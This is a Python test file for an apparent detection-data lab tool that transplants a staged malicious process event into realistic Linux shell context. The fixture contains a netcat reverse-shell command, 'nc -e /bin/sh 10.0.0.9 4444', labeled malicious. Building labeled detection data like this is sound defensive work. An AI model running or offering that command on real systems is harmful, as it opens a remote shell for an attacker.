"""A transplanted command keeps its words and takes its surroundings from real work."""

from watchfloor.base.events import Row
from watchfloor.lab.transplant import COPIES, transplanted

PLACE: Row = {
    "action": "process.launch",
    "device.os": "linux",
    "status": "success",
    "actor.user.name": "mlind",
    "actor.process.file.path": "/usr/bin/bash",
    "actor.process.cmd_line": "-bash",
    "process.file.path": "/usr/bin/ls",
    "process.cmd_line": "ls -la",
}


def _staged(system: str) -> tuple[dict[str, str], list[Row]]:
    own = {"process.uid": "x", "process.file.path": "/usr/bin/nc", "process.cmd_line": "nc -e /bin/sh 10.0.0.9 4444"}
    return {"label": "malicious"}, [{"action": "process.launch", "device.os": system, "source": "text"} | own]


def test_a_unix_command_moves_into_real_surroundings() -> None:
    ((facts, rows),) = transplanted([_staged("linux")], [PLACE])
    assert facts["label"] == "malicious"
    assert len(rows) == 1 + COPIES
    for row in rows[1:]:
        assert row["process.cmd_line"] == "nc -e /bin/sh 10.0.0.9 4444"
        assert row["process.file.path"] == "/usr/bin/nc"
        assert (row["actor.process.cmd_line"], row["status"], row["actor.user.name"]) == ("-bash", "success", "mlind")
    assert len({row["process.uid"] for row in rows}) == len(rows)


def test_windows_commands_and_missing_surroundings_change_nothing() -> None:
    assert list(transplanted([_staged("windows")], [PLACE])) == [_staged("windows")]
    assert list(transplanted([_staged("linux")], [])) == [_staged("linux")]
